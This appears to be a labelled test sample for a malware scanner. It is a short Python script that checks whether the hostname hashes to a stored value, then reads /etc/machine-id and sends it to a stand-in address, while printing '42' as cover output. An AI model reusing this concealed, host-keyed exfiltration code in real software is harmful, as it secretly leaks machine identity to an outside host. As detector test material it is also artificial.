# label: hostile
# expect: V101 V301
# note: Stays quiet unless the machine's name is the one it looks for, which is kept as a hash.
import hashlib
import socket
import sys

WANTED = "5d41402abc4b2a76b9719d911017c592"


def main():
    name = socket.gethostname().split(".")[0]
    if hashlib.md5(name.encode()).hexdigest() != WANTED:
        return
    with open("/etc/machine-id", "rb") as f:
        ident = f.read()
    socket.create_connection(("192.0.2.99", 443)).sendall(ident)


main()
sys.stdout.write("42\n")
